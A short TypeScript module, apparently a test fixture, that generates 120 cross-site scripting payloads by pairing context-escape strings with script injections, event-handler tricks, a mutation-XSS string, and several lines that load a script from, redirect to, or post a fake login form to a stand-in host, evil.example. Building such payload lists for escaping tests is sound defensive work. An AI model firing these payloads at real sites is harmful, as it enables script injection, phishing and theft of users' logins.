/** Ways out of where a text stands. */
const EXITS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', '</a></li></ul>', '" ', "' "] as const

/** Ways to run something once out. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<a href="javascript:alert(1)">Vinnova</a>',
  'autofocus onfocus=alert(1) x=',
  '<form action=https://evil.example><button>Logga in',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
] as const

/** 120 texts that would run, lead away or change the page wherever one of them is not escaped. */
export const SCRIPT_PAYLOADS: readonly string[] = EXITS.flatMap((exit) => ATTACKS.map((attack) => `${exit}${attack}`))
